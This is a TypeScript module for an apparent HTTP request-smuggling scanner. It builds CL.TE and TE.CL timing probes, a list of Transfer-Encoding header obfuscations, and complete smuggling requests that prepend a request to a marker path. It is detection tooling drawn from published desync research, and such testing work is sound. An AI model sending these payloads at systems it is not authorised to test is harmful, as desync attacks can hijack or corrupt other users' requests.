// Request bytes for the request-smuggling check: the published timing probes (Kettle, "HTTP
// Desync Attacks", 2019) and the same-connection confirmations, for the plain Transfer-Encoding
// header and its obfuscations.

export type Direction = 'CL.TE' | 'TE.CL';

export interface TeHeader {
  id: string;
  /** Header line(s) as written on the wire, without the final CRLF. */
  line: string;
}

export const TE_PLAIN: TeHeader = { id: 'plain', line: 'Transfer-Encoding: chunked' };

/** Spellings one parser may honour and another ignore (the TE.TE family). */
export const TE_OBFUSCATIONS: TeHeader[] = [
  { id: 'space-before-colon', line: 'Transfer-Encoding : chunked' },
  { id: 'xchunked', line: 'Transfer-Encoding: xchunked' },
  { id: 'tab-separator', line: 'Transfer-Encoding:\tchunked' },
  { id: 'duplicate-header', line: 'Transfer-Encoding: chunked\r\nTransfer-Encoding: x' },
  { id: 'obs-fold', line: 'Transfer-Encoding:\r\n chunked' },
  { id: 'bare-lf', line: 'X-Pad: x\nTransfer-Encoding: chunked' },
];

export interface Target {
  /** Path and query of the probed page. */
  path: string;
  /** Host header value. */
  host: string;
}

const FORM = 'Content-Type: application/x-www-form-urlencoded';

function head(t: Target, extra: string[]): string {
  return [`POST ${t.path} HTTP/1.1`, `Host: ${t.host}`, FORM, ...extra].join('\r\n') + '\r\n\r\n';
}

/** Both parsers agree on this one: the time a normal answer takes. */
export function baselineRequest(t: Target): string {
  return head(t, ['Content-Length: 3']) + 'x=1';
}

/**
 * CL.TE: a Content-Length front-end forwards "1\r\nZ" only; a chunked back-end then waits for the
 * next chunk. A chunked front-end rejects "Q" as a chunk size at once, so nothing waits.
 */
export function clTeTimingProbe(t: Target, te: TeHeader): string {
  return head(t, ['Content-Length: 4', te.line]) + '1\r\nZ\r\nQ';
}

/**
 * TE.CL: a chunked front-end forwards up to the last chunk, 5 bytes; a Content-Length back-end
 * waits for the sixth. Sent only after CL.TE came out negative: on a CL.TE pair the trailing "X"
 * would be left on the back-end connection.
 */
export function teClTimingProbe(t: Target, te: TeHeader): string {
  return head(t, ['Content-Length: 6', te.line]) + '0\r\n\r\nX';
}

/** The normal request that follows on the same connection; it is the one whose answer changes. */
export function followUp(t: Target): string {
  return `GET ${t.path} HTTP/1.1\r\nHost: ${t.host}\r\nConnection: close\r\n\r\n`;
}

/** What the marker path answers when asked directly, for comparison. */
export function directMarkerRequest(t: Target, method: string, markerPath: string): string {
  return `${method} ${markerPath} HTTP/1.1\r\nHost: ${t.host}\r\n${FORM}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`;
}

/**
 * The smuggling request for one direction. Whatever the back-end reads past the front-end's idea of
 * the body is a request for `markerPath` that swallows the follow-up completely (CL.TE: as header
 * lines; TE.CL: as its body), so no byte of ours is left over for a request that is not ours.
 */
export function smugglingRequest(direction: Direction, t: Target, te: TeHeader, markerPath: string): { bytes: string; method: string } {
  if (direction === 'CL.TE') {
    const body = `0\r\n\r\nGET ${markerPath} HTTP/1.1\r\nX-Ignore: X`;
    return { bytes: head(t, [`Content-Length: ${body.length}`, te.line]) + body, method: 'GET' };
  }
  const tail = '\r\n0\r\n\r\n';
  const swallow = 'x='.length + tail.length + followUp(t).length;
  const smuggled = `POST ${markerPath} HTTP/1.1\r\nHost: ${t.host}\r\n${FORM}\r\nContent-Length: ${swallow}\r\n\r\nx=`;
  const size = smuggled.length.toString(16);
  return { bytes: head(t, [`Content-Length: ${size.length + 2}`, te.line]) + `${size}\r\n${smuggled}${tail}`, method: 'POST' };
}
